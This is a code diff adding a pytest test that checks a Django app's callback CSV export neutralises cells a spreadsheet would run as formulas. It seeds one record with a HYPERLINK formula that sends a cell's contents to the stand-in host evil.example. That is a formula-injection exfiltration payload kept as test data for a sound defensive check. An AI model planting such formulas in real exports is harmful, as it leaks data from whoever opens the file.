@@ -52,3 +52,13 @@ def test_export_refuses_a_bad_date_with_a_message(client_for, csr):
 @pytest.mark.parametrize("role", ["technician", "sales", "outsider"])
 def test_only_the_office_exports(request, client_for, role):
     assert client_for(request.getfixturevalue(role)).get(reverse("callbacks:export")).status_code == 403
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client_for, manager):
+    CallbackFactory(problem='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    CallbackFactory(problem="-2+3 degrees colder than set")
+
+    rows = _rows(client_for(manager).get(reverse("callbacks:export")))
+
+    problems = sorted(row[-1] for row in rows[1:])
+    assert problems == ["'-2+3 degrees colder than set", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
